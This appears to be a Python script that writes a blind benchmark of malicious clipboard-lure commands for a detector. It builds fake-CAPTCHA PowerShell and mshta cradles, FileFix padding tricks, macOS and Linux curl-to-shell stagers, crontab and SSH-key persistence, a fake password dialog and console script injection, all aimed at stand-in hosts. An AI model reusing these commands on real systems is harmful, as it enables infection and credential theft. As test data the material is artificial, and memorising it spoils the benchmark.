"""Writes the sixth blind set, bench/blind/lures-6.jsonl and benign-6.jsonl (bench/blind/README.md,
"blind-6"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind6.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list, app/ or
any case file), weighted like the hold-out the project is measured on rather than towards exotic
techniques: most lures are the mainstream shapes of 2025-2026 reports (fake CAPTCHA Run-box
PowerShell, mshta and cmd one-liners, FileFix, macOS "paste in Terminal" stealers, fake meeting
fixes, console self-XSS, scam texts, ConsentFix and device codes) in spellings, staging hosts and
social wrappers the first five sets did not use; the rest are techniques those sets did not use.
Every text is our own; lures use reserved names only (*.test, *.invalid, *.example, the
documentation IPv4 ranges and 2001:db8::/32) and fictitious phone numbers. Benign installers are
real projects' published commands with the page they are published on. Not imported by the app
or the bench: the bench reads the jsonl files.
"""

from __future__ import annotations

import base64
import gzip
import ipaddress
import json
import re
from pathlib import Path

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-6.jsonl"
BENIGN_OUT = HERE / "benign-6.jsonl"

# ----------------------------------------------------------------------------------------------
# Encodings lures use (computed, so every encoded text really decodes to its command)
# ----------------------------------------------------------------------------------------------


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def b64_utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def gzip_b64(text: str) -> str:
    """gzip with a fixed mtime, base64 (deterministic)."""
    return base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()


def hex_str(text: str) -> str:
    return text.encode().hex()


def char_codes(text: str, sep: str = ",") -> str:
    return sep.join(str(ord(c)) for c in text)


def xor_codes(text: str, key: int) -> str:
    return ",".join(str(ord(c) ^ key) for c in text)


def ip_int(ip: str) -> int:
    return int(ipaddress.IPv4Address(ip))


NBSP = "\u00a0"
EMSP = "\u2003"
FIG = "\u2007"
ZWSP = "\u200b"
THIN = "\u2009"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

RUN = "run_dialog"
EXP = "explorer_bar"
TERM = "terminal"
CON = "browser_console"
UNK = "unknown"

LURES: list[tuple[str, str, str, str, str, str]] = []


def lure(
    technique: str,
    target: str,
    source: str,
    text: str,
    expect: str = "malicious",
    platform: str = "windows",
) -> None:
    LURES.append((technique, target, source, text, expect, platform))


# Verification tails, in the languages fake CAPTCHA kits localise into.
TAILS = [
    "# I am not a robot - Cloudflare Ray ID: 8e41c2a9f07d13b5",
    "# ✔ Verify you are human. Verification ID: 448-213",
    "# Je ne suis pas un robot - ID de vérification : 7731-QF",
    "# Ich bin kein Roboter - Prüfnummer 55-1902",
    "# No soy un robot - ID de verificación: 90421",
    "# Não sou um robô - código de verificação 3318",
    "# Я не робот — код проверки 772-014",
    "# 私はロボットではありません 認証ID: 66120",
    "# 我不是机器人 - 验证编号 510-88",
    "# Nie jestem robotem - identyfikator weryfikacji 2207",
    "# Ben robot değilim - Doğrulama Kimliği: 8841",
    "# Non sono un robot - ID verifica 4410-BX",
    "# reCAPTCHA: human check passed (session 0x5f2c)",
    "# Turnstile token accepted - press Enter to finish",
    "# Verification step 2 of 2 - keep this window open",
    "## hCaptcha OK ## ref 90-2218-AK",
]

# --- Run box: the mainstream fake-CAPTCHA PowerShell shapes, new hosts, spellings and tails ------

PS_SHAPES = [
    ("ps-cradle-irm-iex", 'powershell -w h -c "iex(irm {u})"'),
    ("ps-cradle-iwr-pipe", "powershell -NoP -W Hidden -C \"iwr '{u}' -UseBasicParsing | iex\""),
    ("ps-cradle-content", "powershell -ep bypass -w 1 -c \"$r=iwr '{u}';iex $r.Content\""),
    (
        "ps-cradle-webclient",
        "powershell -nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('{u}')\"",
    ),
    ("ps-cradle-scriptblock", "powershell -w h \"& ([scriptblock]::Create((irm '{u}')))\""),
    (
        "ps-cradle-invoke-full",
        "powershell.exe -NoProfile -WindowStyle Hidden -Command \"Invoke-Expression (Invoke-RestMethod -Uri '{u}')\"",
    ),
    ("ps-cradle-start-min", 'cmd /c start /min powershell -w h -c "irm {u} | iex"'),
    ("ps-cradle-semicolon-var", "powershell -w 1 -c \"$v='{u}';$s=irm $v;iex $s\""),
]
RUNBOX_HOSTS = [
    (
        "https://www.harbourview-dental.example/appointments",
        "https://verify.cf-gatecheck.test/v2/k",
    ),
    ("https://www.olive-and-thyme.example/menu", "https://cdn.turnstile-edge.invalid/t.ps1"),
    ("https://blog.trailrunner-gear.example/reviews", "https://198.51.100.77/session"),
    ("https://www.kessler-steuerberatung.example/kontakt", "https://api.humanproof-node.test/c"),
    ("https://www.lumiere-photo.example/galerie", "https://static.captcha-relay.invalid/fr/v"),
    ("https://www.greenway-plumbing.example/quote", "https://203.0.113.149:8443/ok"),
    ("https://shop.handmade-candles.example/cart", "https://check.bot-filter.test/s/9921"),
    ("https://www.tierarzt-am-see.example/", "http://198.51.100.12/de.txt"),
]
for i, (technique, shape) in enumerate(PS_SHAPES):
    for j in range(2):
        source, url = RUNBOX_HOSTS[(i + 3 * j) % len(RUNBOX_HOSTS)]
        tail = TAILS[(2 * i + j) % len(TAILS)]
        sep = "  " if j == 0 else " " * 40
        lure(technique, RUN, source, shape.format(u=url) + sep + tail)

# Encoded PowerShell, the way kits emit it: -e / -enc / -EncodedCommand with their cradles inside.
for _k, (flag, inner, source, tail) in enumerate(
    [
        (
            "-e",
            "iex(irm https://gate.verifyflow.test/a)",
            "https://www.bergblick-pension.example/zimmer",
            TAILS[3],
        ),
        (
            "-enc",
            "iwr -useb http://203.0.113.91/p|iex",
            "https://www.costa-azul-tours.example/",
            TAILS[4],
        ),
        (
            "-EncodedCommand",
            "$u='https://edge.ticket-verify.invalid/ps';iex (irm $u)",
            "https://www.fixie-bikes.example/shop",
            TAILS[0],
        ),
        (
            "-ec",
            "Start-Process powershell -Args '-w h -c irm https://r2.assets-mirror.test/x|iex' -WindowStyle Hidden",
            "https://www.kyoto-ramen.example/",
            TAILS[7],
        ),
        (
            "-en",
            "iex ((New-Object Net.WebClient).DownloadString('https://pl.weryfikacja-cdn.test/s'))",
            "https://www.kwiaciarnia-roza.example/",
            TAILS[9],
        ),
    ]
):
    lure(
        "ps-encoded-mainstream",
        RUN,
        source,
        f"powershell -w h -nop {flag} {b64_utf16(inner)}  {tail}",
    )

# mshta, the other half of the fake-CAPTCHA kits.
for source, text in [
    (
        "https://www.sunnyside-daycare.example/",
        "mshta https://verify.captcha-cdn.test/human.hta  " + TAILS[1],
    ),
    ("https://www.alpenhof-ski.example/buchen", "mshta http://203.0.113.54/verify  " + TAILS[3]),
    (
        "https://www.padaria-central.example/",
        "mshta.exe https://cdn.robo-check.invalid/pt/v.hta " + " " * 30 + TAILS[5],
    ),
    (
        "https://forum.guitar-luthiers.example/t/4412",
        "C:\\Windows\\System32\\mshta.exe https://rayid.edge-verify.test/8e41  " + TAILS[0],
    ),
    (
        "https://www.tokyo-sushi-bar.example/",
        "mshta https://cf.clearance-id.invalid/ja  " + TAILS[7],
    ),
    (
        "https://www.lingua-italiana.example/corsi",
        "cmd /c mshta https://verifica.umano-check.test/it " + TAILS[11],
    ),
    (
        "https://www.zen-garden-spa.example/",
        "mshta http://198.51.100.203:8080/captcha.html  " + TAILS[13],
    ),
    (
        "https://www.bookkeeping-pros.example/",
        'mshta "https://assets.doc-viewer.test/secure/invoice_7731.hta" # Document preview verification',
    ),
]:
    lure("mshta-url-mainstream", RUN, source, text)

# cmd one-liners: curl.exe / bitsadmin-free downloads that start what they fetched.
for source, text in [
    (
        "https://www.greenfield-church.example/sermons",
        "cmd /c curl -s -o %TEMP%\\v.bat https://verify.cf-gatecheck.test/b && %TEMP%\\v.bat  "
        + TAILS[2],
    ),
    (
        "https://www.autohaus-meyer.example/",
        'cmd /c "curl -sL https://dl.treiber-fix.test/u.cmd -o %APPDATA%\\u.cmd & call %APPDATA%\\u.cmd"  '
        + TAILS[3],
    ),
    (
        "https://www.bistro-lyon.example/",
        "cmd /c curl -k https://198.51.100.66/f.vbs -o %TEMP%\\f.vbs && wscript %TEMP%\\f.vbs  "
        + TAILS[2],
    ),
    (
        "https://www.hostel-porto.example/",
        "cmd /min /c curl.exe -fsSL https://cdn.verificar-humano.invalid/a.js -o %PUBLIC%\\a.js && cscript //nologo %PUBLIC%\\a.js  "
        + TAILS[5],
    ),
    (
        "https://www.seaside-yoga.example/",
        'cmd.exe /c "curl -s https://edge.turnstile-ok.test/run.ps1 | powershell -nop -"  '
        + TAILS[13],
    ),
    (
        "https://www.schreinerei-holz.example/",
        'cmd /c start "" /b powershell -w h -c "iwr https://update.system-check.invalid/s.exe -OutFile $env:TEMP\\s.exe; & $env:TEMP\\s.exe"  '
        + TAILS[3],
    ),
]:
    lure("cmd-curl-run-mainstream", RUN, source, text)

# msiexec straight from a URL (StealC, NetSupport and RMM lures).
for source, text in [
    (
        "https://www.veterinary-care.example/",
        "msiexec /i https://dl.secure-update.test/Verify.msi /qn  " + TAILS[1],
    ),
    (
        "https://www.bauhaus-interieur.example/",
        "msiexec.exe /q /i http://203.0.113.18/pkg/client.msi  " + TAILS[3],
    ),
    (
        "https://www.la-boulangerie.example/",
        'cmd /c msiexec /i "https://cdn.audio-driver.invalid/RealtekFix.msi" /quiet /norestart  # Correctif audio Realtek',
    ),
]:
    lure("msiexec-url-mainstream", RUN, source, text)

# Obfuscated URLs inside the mainstream cradle: base64, char codes, -join, reversed, -f.
_U1 = "https://cdn.humancheck-api.test/s/7"
_U2 = "https://pay.invoice-portal.invalid/view"
_U3 = "http://203.0.113.200/r"
lure(
    "ps-b64-url-cradle",
    RUN,
    "https://www.nordic-knitwear.example/",
    f"powershell -w h -c \"iex(irm ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(_U1)}'))))\"  "
    + TAILS[14],
)
lure(
    "ps-charcode-url-cradle",
    RUN,
    "https://www.pasta-fresca.example/",
    f'powershell -w h -c "$u=-join([char[]]({char_codes(_U2)}));iex(irm $u)"  ' + TAILS[11],
)
lure(
    "ps-reversed-url-cradle",
    RUN,
    "https://www.caravan-park.example/sites",
    f"powershell -w 1 -c \"$u=-join('{_U3[::-1]}'[-1..-{len(_U3)}]);iwr $u -UseB|iex\"  "
    + TAILS[0],
)
lure(
    "ps-format-url-cradle",
    RUN,
    "https://www.chess-club-north.example/events",
    "powershell -w h -c \"iex(irm ('{2}://{0}/{1}' -f 'cdn.ticket-verify.test','q','https'))\"  "
    + TAILS[12],
)
lure(
    "ps-concat-iex-cradle",
    RUN,
    "https://www.vinoteca-rioja.example/",
    "powershell -w h -c \"$a='ie'+'x';$b='ir'+'m';&$a(&$b 'https://verificacion.robot-no.test/es')\"  "
    + TAILS[4],
)
lure(
    "ps-decimal-ip-cradle",
    RUN,
    "https://www.sailing-school.example/courses",
    f'powershell -w h -c "iex(irm http://{ip_int("198.51.100.23")}/v)"  ' + TAILS[1],
)

# --- Run box: techniques the first five sets did not use ----------------------------------------

lure(
    "cmd-repair-command-prefix",
    RUN,
    "https://www.stadtbibliothek-nord.example/",
    'sfc /scannow & powershell -w h -c "irm https://repair.win-health.test/fix | iex"  # Windows-Systemdateien reparieren',
)
lure(
    "cmd-flushdns-prefix",
    RUN,
    "https://www.riverside-clinic.example/portal",
    'ipconfig /flushdns && powershell -w h -c "iex(irm https://dns-fix.netcheck.invalid/r)"  # Fix DNS_PROBE_FINISHED_NXDOMAIN',
)
lure(
    "ps-fake-success-message",
    RUN,
    "https://www.stargazer-observatory.example/",
    "powershell -w h -c \"irm https://198.51.100.140/c | iex; Write-Host 'Verification successful. You may close this window.'\"",
)
lure(
    "ps-runas-elevated-cradle",
    RUN,
    "https://www.community-pool.example/hours",
    "powershell -c \"Start-Process powershell -Verb RunAs -WindowStyle Hidden -ArgumentList '-nop -c irm https://admin-check.sys-verify.test/e | iex'\"  # Administrator verification required",
)
lure(
    "runas-trustlevel-proxy",
    RUN,
    "https://www.maison-du-the.example/",
    'runas /trustlevel:0x20000 "mshta https://cdn.vérif-humain.test/c.hta"  ' + TAILS[2],
)
lure(
    "ps-download-then-get-content-iex",
    RUN,
    "https://www.eco-laundry.example/",
    'powershell -w h -c "iwr https://files.doc-share.invalid/notes.txt -OutFile $env:TEMP\\n.txt; gc $env:TEMP\\n.txt -Raw | iex"  '
    + TAILS[15],
)
lure(
    "ps-schemeless-host-port",
    RUN,
    "https://www.allotment-society.example/",
    'powershell -w h -c "iex(irm 198.51.100.44:8080/v)"  ' + TAILS[0],
)
lure(
    "ps-irm-post-verification-id",
    RUN,
    "https://www.ballet-academy.example/",
    "powershell -w h -c \"iex(irm https://api.verify-session.test/next -Method Post -Body @{id='448-213'})\"  "
    + TAILS[1],
)
lure(
    "py-launcher-exec-url",
    RUN,
    "https://www.model-railway.example/forum",
    "py -c \"import urllib.request as u;exec(u.urlopen('https://cdn.py-helper.invalid/v.py').read())\"  "
    + TAILS[13],
)
lure(
    "fake-interview-camera-driver-win",
    RUN,
    "https://hire.talent-assess.test/interview/8812",
    'cmd /c curl -k -o "%TEMP%\\camdrv.zip" https://cdn.cam-driver.invalid/win/camdrv.zip && powershell -Command "Expand-Archive -Force -Path \'%TEMP%\\camdrv.zip\' -DestinationPath \'%TEMP%\\camdrv\'" && wscript "%TEMP%\\camdrv\\update.vbs"',
)
lure(
    "cmd-renamed-powershell-copy",
    RUN,
    "https://www.koi-pond-supplies.example/",
    'cmd /c copy /y %windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe %TEMP%\\svchelper.exe >nul && %TEMP%\\svchelper.exe -w h -c "irm https://198.51.100.9/s | iex"  '
    + TAILS[12],
)
lure(
    "ps-portable-node-stager",
    RUN,
    "https://www.weddings-by-clara.example/",
    'powershell -w h -c "iwr https://pkg.node-runtime.test/n.zip -OutFile $env:APPDATA\\n.zip; Expand-Archive $env:APPDATA\\n.zip $env:APPDATA\\nr -Force; Start-Process $env:APPDATA\\nr\\node.exe -ArgumentList \\"$env:APPDATA\\nr\\app.js\\" -WindowStyle Hidden"  '
    + TAILS[14],
)
lure(
    "ps-ftp-webrequest",
    RUN,
    "https://www.fishing-charters.example/",
    "powershell -w h -c \"$r=[Net.WebRequest]::Create('ftp://203.0.113.33/pub/v.txt');iex ([IO.StreamReader]::new($r.GetResponse().GetResponseStream()).ReadToEnd())\"",
)
lure(
    "ps-quick-tunnel-host",
    RUN,
    "https://www.campus-radio.example/",
    'powershell -w h -c "irm https://meadow-lantern-quiet-river.tunnel-free.test/p | iex"  '
    + TAILS[0],
)
lure(
    "ps-quick-tunnel-host",
    RUN,
    "https://www.bicycle-repair-cafe.example/",
    "mshta https://vivid-orbit-sand-canyon.quick-tunnel.invalid/h  " + TAILS[13],
)
lure(
    "ps-blob-sas-url",
    RUN,
    "https://www.parish-newsletter.example/",
    "powershell -w h -c \"iex(irm 'https://stg4421.blob-store.test/pub/v.ps1?sv=2025-01-05&se=2026-12-31&sr=b&sp=r&sig=Qk9qV2x%2BZ3RzK0x4')\"  "
    + TAILS[1],
)
lure(
    "ps-workers-dev-host",
    RUN,
    "https://www.urban-beekeepers.example/",
    'powershell -w h -c "iwr https://snowy-mouse-21c4.edge-workers.test/ -UseBasicParsing | iex"  '
    + TAILS[12],
)
lure(
    "ps-telegram-file-staging",
    RUN,
    "https://www.antique-clocks.example/",
    "powershell -w h -c \"iex(irm 'https://api.tg-bot-files.invalid/file/bot7712:AAHk/documents/file_12.txt')\"  "
    + TAILS[6],
)
lure(
    "wlrmdr-proxy-exec",
    RUN,
    "https://www.old-town-pharmacy.example/",
    "cmd /c curl -so %TEMP%\\wl.exe https://cdn.toast-notify.test/wl.exe && wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u %TEMP%\\wl.exe  "
    + TAILS[0],
)
lure(
    "ps-verification-id-in-variable",
    RUN,
    "https://www.karate-dojo.example/",
    'powershell -w h -c "$VerificationID=\'RAY-8E41C2\';iex(irm \\"https://ray.cf-clearance.test/$VerificationID\\")"',
)
lure(
    "cmd-timeout-then-run",
    RUN,
    "https://www.mobile-pet-grooming.example/",
    'cmd /c timeout /t 2 >nul & start /min powershell -w h -c "irm http://198.51.100.230/t|iex"  '
    + TAILS[8],
)
lure(
    "ps-invoke-item-download",
    RUN,
    "https://www.yarn-and-needle.example/",
    'powershell -w h -c "iwr https://dl.doc-preview.invalid/Invoice_2291.pdf.lnk -OutFile $env:TEMP\\Invoice.lnk; ii $env:TEMP\\Invoice.lnk"',
)
lure(
    "ps-hex-url-cradle",
    RUN,
    "https://www.brewery-tours.example/",
    f"powershell -w h -c \"$h='{hex_str('https://hx.verify-node.test/p')}';$u=-join($h -split '(..)'|?{{$_}}|%{{[char][Convert]::ToByte($_,16)}});iex(irm $u)\"  "
    + TAILS[14],
)

# --- Windows Terminal (Win+X, I): the mainstream cradle, plainly ------------------------------------

for source, text in [
    (
        "https://www.lakeside-rowing.example/",
        "irm https://term.verify-flow.test/w | iex  " + TAILS[1],
    ),
    (
        "https://www.kindergarten-sonne.example/",
        "iex (iwr 'https://203.0.113.88/k' -UseBasicParsing).Content  " + TAILS[3],
    ),
    (
        "https://www.jazz-cellar.example/tickets",
        "Invoke-RestMethod https://gate.robot-check.invalid/t | Invoke-Expression",
    ),
    (
        "https://www.hotel-miramar.example/reserva",
        'powershell -ep bypass -c "irm https://reserva.huesped-verif.test/v | iex"  # Verificación del huésped - reserva 44120',
    ),
    (
        "https://www.meet-room-22.example/j/71",
        "$ProgressPreference='SilentlyContinue'; iwr https://cdn.meet-audio.test/fix.ps1 -UseB | iex  # Fix: microphone not detected",
    ),
    (
        "https://www.teams-events.example/live/4410",
        "irm https://teams-sdk.av-repair.invalid/audio | iex  # Teams audio device reset",
    ),
]:
    lure("terminal-cradle-mainstream", TERM, source, text)

# --- FileFix: Explorer's address bar, padded behind an innocent path ------------------------------

FILEFIX = [
    (
        "https://share.hr-portal-docs.test/policy",
        'powershell -w h -c "irm https://cdn.files-view.invalid/f|iex"',
        "C:\\Users\\Public\\HR\\Policy_2026.docx",
        " ",
    ),
    (
        "https://docs.vendor-contracts.invalid/sign",
        'powershell -c "iwr https://203.0.113.61/d -UseB|iex"',
        "\\\\fileserver\\Contracts\\Vendor_NDA_Final.pdf",
        NBSP,
    ),
    (
        "https://portal.payroll-notice.test/view",
        "cmd /c curl -s https://pay.dl-edge.invalid/p.bat -o %TEMP%\\p.bat && %TEMP%\\p.bat",
        "C:\\Payroll\\2026\\December\\Payslip.pdf",
        " ",
    ),
    (
        "https://files.shared-invoice.invalid/open",
        "mshta https://hta.file-open.test/i",
        "C:\\Finance\\Invoices\\INV-88120.pdf",
        EMSP,
    ),
    (
        "https://drive.project-files.test/folder",
        'pwsh -nop -c "iex(irm https://198.51.100.95/x)"',
        "C:\\Projects\\Q1\\Budget.xlsx",
        FIG,
    ),
    (
        "https://docs.rh-entreprise.invalid/fichier",
        'powershell -w h -c "irm https://fichiers.cdn-doc.test/fr | iex"',
        "C:\\RH\\Règlement_intérieur_2026.pdf",
        " ",
    ),
    (
        "https://dokumente.personal-abteilung.test/datei",
        'powershell -w h -c "iex(irm https://dok.cdn-freigabe.invalid/d)"',
        "C:\\Personal\\Gehaltsabrechnung_Dezember.pdf",
        " ",
    ),
    (
        "https://share.legal-review.invalid/case",
        'powershell -w h -c "irm https://case.docs-relay.test/l|iex"',
        "C:\\Legal\\Case_2291\\Evidence_Summary.pdf",
        THIN,
    ),
]
for source, cmd, path, ch in FILEFIX:
    lure("filefix-mainstream", EXP, source, cmd + ch * 70 + "# " + path)
lure(
    "filefix-mainstream",
    EXP,
    "https://sign.esign-review.test/doc/7731",
    'powershell -c "irm https://esign.cdn-docs.invalid/s | iex" '
    + "#"
    + " " * 90
    + "C:\\Users\\Documents\\Agreement_signed.pdf",
)
lure(
    "filefix-zero-width-between-padding",
    EXP,
    "https://files.tender-docs.test/open",
    'powershell -w h -c "irm https://tender.cdn-store.invalid/t|iex"'
    + (" " + ZWSP) * 45
    + "# C:\\Tenders\\RFP_2026_Specs.pdf",
)
lure(
    "filefix-cmd-path-with-nbsp",
    EXP,
    "https://portal.insurance-claims.invalid/claim",
    'cmd /c "curl -s https://claims.doc-fetch.test/c.cmd -o %TEMP%\\c.cmd & %TEMP%\\c.cmd"'
    + NBSP * 80
    + "& rem C:\\Claims\\Claim_55102_photos.zip",
)

# --- macOS Terminal: AMOS / Odyssey / MacSync style "paste in Terminal" -------------------------


def mac(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "macos")


mac(
    "macos-bash-c-curl-mainstream",
    "https://brew-install.pkg-mirror.test/",
    '/bin/bash -c "$(curl -fsSL https://raw.brew-sh.invalid/install.sh)"',
)
mac(
    "macos-bash-c-curl-mainstream",
    "https://get-cursor-ai.invalid/mac",
    '/bin/bash -c "$(curl -fsSL https://dl.cursor-app.test/mac/install.sh)"  # Cursor for macOS (Apple Silicon)',
)
mac(
    "macos-bash-c-curl-mainstream",
    "https://atlas-browser-download.test/",
    '/bin/zsh -c "$(curl -fsSL https://cdn.atlas-mac.invalid/setup)"  # ChatGPT Atlas installer',
)
mac(
    "macos-curl-pipe-ip",
    "https://www.lighthouse-museum.example/",
    "curl -fsSL http://203.0.113.101/d/vx2291 | bash  # Verify you are human (macOS)",
)
mac(
    "macos-curl-pipe-ip",
    "https://www.organic-farm-box.example/",
    "curl -s http://198.51.100.177/m/7731 | zsh",
)
mac(
    "macos-curl-pipe-ip",
    "https://fix-storage.icloud-help.test/",
    "curl -kfsSL https://203.0.113.207:8443/icloud | sh  # iCloud storage full - clean up",
)
mac(
    "macos-echo-b64-bash",
    "https://www.gallery-nord.example/",
    f'echo "{b64("curl -s http://198.51.100.61/o/ma | nohup bash >/dev/null 2>&1 &")}" | base64 -d | bash',
)
mac(
    "macos-echo-b64-bash",
    "https://mac-cleaner-pro.invalid/guide",
    f"echo '{b64('curl -fsSL https://cl.mac-tidy.test/run.sh | zsh')}' | base64 --decode | zsh  # free up disk space",
)
_LEDGER = '/bin/bash -c "$(curl -fsSL https://ll.wallet-sync.invalid/fix)"'
mac(
    "macos-echo-b64-bash",
    "https://ledger-live-fix.test/repair",
    f"echo {b64(_LEDGER)} | base64 -D | sh",
)
mac(
    "macos-b64-url-in-curl",
    "https://www.tide-tables.example/",
    f"curl -fsSL $(echo {b64('https://p.stage-mac.test/u')} | base64 -d) | bash",
)
mac(
    "macos-b64-url-in-curl",
    "https://video-call-fix.meet-support.invalid/",
    f"bash -c \"$(curl -s $(echo '{b64('http://203.0.113.71/cam')}' | base64 --decode))\"  # camera not detected - repair",
)
mac(
    "macos-gzip-b64-zsh",
    "https://www.hillside-winery.example/",
    f"echo '{gzip_b64('curl -s https://gz.mac-update.invalid/a | zsh')}' | base64 -d | gunzip | zsh",
)
mac(
    "macos-osascript-curl",
    "https://apple-id-verify.test/confirm",
    "osascript -e 'do shell script \"curl -fsSL https://ac.id-confirm.invalid/s | sh\"'  # Apple ID verification",
)
mac(
    "macos-curl-pipe-osascript",
    "https://www.pottery-studio.example/",
    "curl -s https://as.scpt-host.test/v.applescript | osascript",
)
mac(
    "macos-download-xattr-run",
    "https://zoom-mac-update.invalid/",
    "curl -fsSL -o /tmp/ZoomFix https://dl.zoom-fix.test/ZoomFix && xattr -c /tmp/ZoomFix && chmod +x /tmp/ZoomFix && /tmp/ZoomFix",
)
mac(
    "macos-download-xattr-run",
    "https://www.bonsai-nursery.example/",
    "cd /tmp && curl -sO http://198.51.100.88/updater && chmod 755 updater && ./updater &",
)
mac(
    "fake-interview-camera-driver-mac",
    "https://hire.talent-assess.test/interview/9021",
    "curl -k -o /var/tmp/camfix.sh https://cdn.cam-driver.invalid/mac/camfix.sh && chmod +x /var/tmp/camfix.sh && nohup bash /var/tmp/camfix.sh >/dev/null 2>&1 &",
)
mac(
    "macos-sudo-curl-bash",
    "https://www.quilting-guild.example/",
    'sudo bash -c "$(curl -fsSL https://sys.mac-repair.test/perm.sh)"  # Repair disk permissions',
)
mac(
    "macos-verification-tail",
    "https://www.jazz-records.example/",
    "curl -fsSL https://hv.mac-verify.invalid/k | bash  # ✔ I am not a robot - reCAPTCHA Verification ID: 2214",
)
mac(
    "macos-verification-tail",
    "https://www.ferry-timetable.example/",
    'zsh -c "$(curl -fsSL https://203.0.113.144/z)"   # Cloudflare: verifying your browser… Ray ID 8e41c2',
)
mac(
    "macos-killall-terminal-cleanup",
    "https://www.artisan-coffee.example/",
    "curl -fsSL https://cf.brew-runtime.test/s | bash; killall Terminal",
)
mac(
    "macos-script-editor-url",
    "https://docs.mac-setup-guide.invalid/",
    "applescript://com.apple.scripteditor?action=new&script=do%20shell%20script%20%22curl%20-fsSL%20https%3A%2F%2Fse.scpt-stage.test%2Fi%20%7C%20sh%22",
)
mac(
    "macos-shortcuts-import-url",
    "https://www.podcast-studio.example/",
    'open "shortcuts://import-shortcut?url=https://sc.shortcut-share.test/Cleanup.shortcut&name=Cleanup"',
)
mac(
    "macos-homebrew-lookalike-host",
    "https://homebrew-sh.invalid/",
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com.brew-mirror.test/Homebrew/install/HEAD/install.sh)"',
)
mac(
    "macos-dialog-password-then-curl",
    "https://www.comic-shop.example/",
    'p=$(osascript -e \'text returned of (display dialog "macOS needs your password to continue the update" default answer "" with hidden answer)\'); echo "$p" | sudo -S bash -c "$(curl -fsSL https://203.0.113.19/u)"',
)
mac(
    "macos-hidden-launch-nohup-tail",
    "https://mac-ai-assistant.test/install",
    "curl -s https://grok-mac.ai-dl.invalid/i -o ~/.i && chmod +x ~/.i && nohup ~/.i >/dev/null 2>&1 & disown  # Grok desktop for Mac",
)

# --- Linux / POSIX shells -----------------------------------------------------------------------


def nix(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "linux")


nix(
    "linux-curl-sudo-bash-mainstream",
    "https://www.robotics-club.example/",
    "curl -sSL http://198.51.100.150/l.sh | sudo bash  # verify you are human (Linux)",
)
nix(
    "linux-curl-sudo-bash-mainstream",
    "https://steam-linux-fix.invalid/proton",
    "wget -qO- https://proton.steam-repair.test/fix.sh | sudo sh  # Proton shader cache repair",
)
nix(
    "linux-curl-sudo-bash-mainstream",
    "https://nvidia-driver-help.test/",
    'sudo bash -c "$(curl -fsSL https://drv.gpu-fix.invalid/nv.sh)"',
)
nix(
    "linux-procsub-bash",
    "https://www.swing-dance.example/",
    "bash <(curl -s https://203.0.113.93/x)  " + TAILS[0],
)
nix(
    "linux-b64-pipe-sh",
    "https://discord-linux-verify.invalid/",
    f"echo {b64('curl -fsSL https://dc.verify-bot.test/l | sh')} | base64 -d | sh  # Discord verification (Linux)",
)
nix(
    "linux-b64-pipe-sh",
    "https://www.climbing-wall.example/",
    f"bash -c \"$(echo '{b64('wget -qO- http://198.51.100.31/v | bash')}' | base64 -d)\"",
)
nix(
    "linux-download-hidden-run",
    "https://www.amateur-radio.example/",
    "curl -so /tmp/.x https://bin.tmp-stage.invalid/x && chmod +x /tmp/.x && /tmp/.x &",
)
nix(
    "linux-appimage-download-run",
    "https://zoom-linux-fix.test/",
    "wget -q https://dl.av-fix.invalid/MeetFix.AppImage -O /tmp/MeetFix.AppImage && chmod +x /tmp/MeetFix.AppImage && /tmp/MeetFix.AppImage --no-sandbox",
)
nix(
    "linux-pkexec-gui-prompt",
    "https://www.photo-walks.example/",
    'pkexec bash -c "$(curl -fsSL https://px.polkit-fix.test/s)"',
)
nix(
    "linux-git-clone-make-install",
    "https://hire.dev-assess.invalid/task/55",
    "git clone https://git.code-task.test/recruit/assessment.git && cd assessment && sudo make install  # required for the technical interview",
)
nix(
    "linux-tee-pipe-sh",
    "https://www.vintage-synth.example/",
    "curl -fsSL https://sy.linux-update.test/u | tee /tmp/u.log | sudo sh",
)
nix(
    "linux-sh-c-wget-tail",
    "https://www.rugby-club.example/",
    'sh -c "$(wget -qO- http://203.0.113.134:8000/a)"  ' + TAILS[6],
)
nix(
    "linux-python-urlopen-exec",
    "https://www.linux-users-group.example/",
    "python3 -c \"import urllib.request as r;exec(r.urlopen('https://py.verify-node.invalid/l').read())\"",
)
nix(
    "linux-crontab-curl",
    "https://www.ham-radio-net.example/",
    '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsSL https://cr.keepalive.test/p | sh") | crontab -',
)
nix(
    "linux-ssh-authorized-keys-append",
    "https://support.hosting-help.invalid/ticket/4471",
    "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF7kQ2pL9vZ3xN8mR4tY6uI1oP5aS2dF7gH9jK support@helpdesk' >> ~/.ssh/authorized_keys  # lets our engineer fix your server",
)
lure(
    "wsl-curl-bash-runbox",
    RUN,
    "https://www.choir-society.example/",
    'wsl -e bash -c "curl -fsSL https://ws.linux-layer.test/w | bash"  ' + TAILS[1],
)

# --- Browser console: self-XSS and crypto drainers --------------------------------------------------


def con(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, CON, source, text, expect, "browser")


con(
    "console-fetch-eval-mainstream",
    "https://free-robux-2026.test/claim",
    "// Paste in the console (F12) to claim 10,000 Robux\nfetch('https://rb.claim-gen.invalid/r.js').then(r => r.text()).then(eval)",
)
con(
    "console-script-src-mainstream",
    "https://insta-followers-boost.invalid/",
    "var s=document.createElement('script');s.src='https://ig.boost-cdn.test/f.js';document.body.appendChild(s); // +5000 followers",
)
con(
    "console-jquery-getscript-mainstream",
    "https://tiktok-coins-free.test/",
    "$.getScript('https://tk.coins-gen.invalid/c.js') // TikTok coins generator",
)
